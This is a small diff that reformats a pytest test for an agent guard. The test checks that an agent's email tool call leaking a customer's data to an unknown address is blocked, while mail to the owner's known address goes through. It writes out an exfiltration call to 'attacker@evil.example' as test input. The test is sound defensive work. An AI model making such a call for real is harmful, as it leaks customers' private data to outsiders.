@@ -307,9 +307,13 @@ def test_a_recipient_the_resolver_does_not_know_gets_no_owned_data_even_with_a_s
         agent = guard.agent("bot", subject="cust_A")
         agent.call("read_account", customer_id="cust_A")
         with pytest.raises(ContentBlocked) as caught:
-            agent.call("send_email", to="attacker@evil.example", body=f"FYI: the client is {A_PASSAGE}.")
+            agent.call(
+                "send_email", to="attacker@evil.example", body=f"FYI: the client is {A_PASSAGE}."
+            )
         assert caught.value.code == "leaks.other_owner"
         assert sent == []
         # the same data to the owner's own known address still goes out
-        agent.call("send_email", to="ana@rotterdam-shipping.nl", body=f"FYI: the client is {A_PASSAGE}.")
+        agent.call(
+            "send_email", to="ana@rotterdam-shipping.nl", body=f"FYI: the client is {A_PASSAGE}."
+        )
         assert [to for to, _ in sent] == ["ana@rotterdam-shipping.nl"]
